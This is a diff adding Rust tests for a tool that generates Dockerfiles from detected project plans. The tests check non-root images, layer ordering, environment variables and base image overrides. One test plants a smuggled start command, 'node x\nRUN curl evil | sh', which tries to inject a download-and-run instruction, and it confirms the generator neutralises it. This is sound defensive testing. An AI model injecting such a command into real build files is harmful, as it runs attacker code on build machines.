@@ -3,7 +3,8 @@
 
 use std::path::Path;
 
-use slipway_detect::{Options, detect};
+use slipway_detect::dockerfile::{BaseImages, GenerateError, generate};
+use slipway_detect::{Options, Provider, detect};
 
 #[test]
 fn every_fixture_repository_gets_its_full_plan_or_a_clear_error() {
@@ -43,4 +44,66 @@ fn a_dockerfile_is_used_unless_told_otherwise() {
     assert_eq!(detect(&root, &Options::default()).expect("plan").provider.as_str(), "dockerfile");
     let plan = detect(&root, &Options { ignore_dockerfile: true, ..Default::default() }).expect("plan");
     assert_eq!(plan.provider.as_str(), "node");
+}
+
+#[test]
+fn generated_dockerfiles_are_cache_friendly_non_root_and_reviewed() {
+    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
+    let mut names: Vec<String> = std::fs::read_dir(&root)
+        .expect("fixtures")
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .collect();
+    names.sort();
+    let images = BaseImages::default();
+    let mut generated = 0;
+    for name in names {
+        let Ok(plan) = detect(&root.join(&name), &Options::default()) else { continue };
+        if plan.provider == Provider::Dockerfile {
+            continue;
+        }
+        let text = match generate(&plan, &images) {
+            Ok(text) => text,
+            Err(GenerateError::NoStart) => format!("error: {}", GenerateError::NoStart),
+            Err(other) => panic!("{name}: {other}"),
+        };
+        if !text.starts_with("error:") {
+            generated += 1;
+            let final_stage = text.rsplit("\nFROM ").next().expect("a final stage");
+            assert!(final_stage.contains("\nUSER 10001:10001\n"), "{name}: the final stage runs as non-root\n{text}");
+            if let (Some(deps), Some(source)) = (text.find("\nCOPY [\""), text.find("\nCOPY . .")) {
+                assert!(deps < source, "{name}: dependency manifests are copied before the source");
+            }
+            for (key, value) in &plan.env {
+                assert!(text.contains(&format!("ENV {key}=")), "{name}: plan env {key}={value} is set");
+            }
+        }
+        insta::assert_snapshot!(format!("{name}-dockerfile"), text);
+    }
+    assert!(generated >= 25, "{generated} Dockerfiles generated");
+}
+
+#[test]
+fn base_images_are_configurable_and_checked() {
+    let images = BaseImages::with_overrides(
+        "node=registry.example.com/node:{version}, static-run=registry.example.com/busybox:1",
+    )
+    .expect("valid overrides");
+    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
+    let plan = detect(&root.join("node-npm"), &Options::default()).expect("plan");
+    let text = generate(&plan, &images).expect("dockerfile");
+    assert!(text.starts_with("# Generated") && text.contains("FROM registry.example.com/node:20 AS deps"), "{text}");
+    for bad in ["node", "cobol=x", "node=a b", "=x"] {
+        assert_eq!(BaseImages::with_overrides(bad), Err(GenerateError::BadBaseImages(bad.trim().to_string())), "{bad}");
+    }
+}
+
+#[test]
+fn a_hostile_command_cannot_add_a_dockerfile_instruction() {
+    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
+    let mut plan = detect(&root.join("node-npm"), &Options::default()).expect("plan");
+    plan.start = Some(slipway_detect::Fact::new("node x\nRUN curl evil | sh".into(), &["test"]));
+    let text = generate(&plan, &BaseImages::default()).expect("dockerfile");
+    assert!(!text.lines().any(|l| l.starts_with("RUN curl")), "{text}");
+    assert!(text.contains(r#"CMD ["/bin/sh","-c","exec node x\nRUN curl evil | sh"]"#), "{text}");
 }
